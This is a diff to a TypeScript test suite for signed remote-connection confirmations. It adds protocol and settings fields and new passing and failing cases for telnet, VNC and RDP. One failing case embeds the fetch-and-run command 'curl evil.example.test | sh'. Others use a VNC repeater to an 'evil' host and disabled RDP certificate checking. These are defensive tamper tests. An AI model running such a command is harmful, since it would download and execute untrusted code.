@@ -35,6 +35,8 @@ export function connectionSignatures(): object[] {
     readonly hostKey?: string;
     readonly configuration?: Uint8Array;
     readonly credential?: Uint8Array;
+    readonly protocol?: string;
+    readonly settings?: string;
   }
   const statement = (said: Said = {}) =>
     context(
@@ -43,11 +45,12 @@ export function connectionSignatures(): object[] {
       uint64(said.counter ?? 7),
       said.configuration ?? configuration.bytes,
       said.credential ?? credential.bytes,
-      'ssh',
+      said.protocol ?? 'ssh',
       said.host ?? 'db.example.test',
       uint32(said.port ?? 2222),
       utf8(said.hostKey ?? hostKey),
       said.policy ?? 'ask',
+      said.settings ?? '',
     );
   const signature = (said: Said = {}, signer: KeyPair = owner, signedAs = label) =>
     sign(signer.privateKey, signedAs, statement(said));
@@ -112,6 +115,20 @@ export function connectionSignatures(): object[] {
       host: { hostName: '' },
       confirmation: text(of({ host: '', port: 0 })),
     }),
+    holds('a port of its sessions', { connection: { port: 2022 }, confirmation: text(of({ port: 2022 })) }),
+    holds('the usual port of another protocol', {
+      host: { port: '' },
+      connection: { protocol: 'telnet' },
+      confirmation: text(of({ protocol: 'telnet', port: 23 })),
+    }),
+    holds('settings that lead on, in the order of their names', {
+      connection: { protocol: 'vnc', destPort: '5901', destHost: 'desk' },
+      confirmation: text(of({ protocol: 'vnc', settings: 'destHost="desk"\ndestPort=5901' })),
+    }),
+    holds('settings as they are usually', {
+      connection: { protocol: 'rdp', ignoreCert: false, loadBalanceInfo: '' },
+      confirmation: text(of({ protocol: 'rdp', settings: 'security="any"' })),
+    }),
     vector('the highest counter', { confirmation: text(of({ counter: largest })) }, true, {}, largest),
     fails('a counter above it', { confirmation: text(of({ counter: largest + 1 })) }, {}, 0),
     fails('the counter 0', { confirmation: text(of({ counter: 0 })) }, {}, 0),
@@ -124,6 +141,17 @@ export function connectionSignatures(): object[] {
     fails('the host key taken away', { connection: { hostKey: '' } }),
     fails('another host key policy', { connection: { hostKeyPolicy: 'trust-on-first-use' } }),
     fails('another credential', { connection: { launchCredentialUid: other.text } }),
+    fails('another port of its sessions', { connection: { port: 22 } }),
+    fails('a command', { connection: { command: 'curl evil.example.test | sh' } }),
+    fails('a certificate that is not looked at any more', {
+      connection: { protocol: 'rdp', ignoreCert: true },
+      confirmation: text(of({ protocol: 'rdp', settings: 'security="any"' })),
+    }),
+    fails('a repeater', {
+      connection: { protocol: 'vnc', destHost: 'evil' },
+      confirmation: text(of({ protocol: 'vnc' })),
+    }),
+    fails('settings that cannot be meant', { connection: { command: 7 } }),
     fails('another configuration', { pam: { configurationUid: other.text } }),
     fails('another protocol', { connection: { protocol: 'telnet' } }),
     fails('a protocol that is not known', { connection: { protocol: 'gopher' } }, {}, 0),
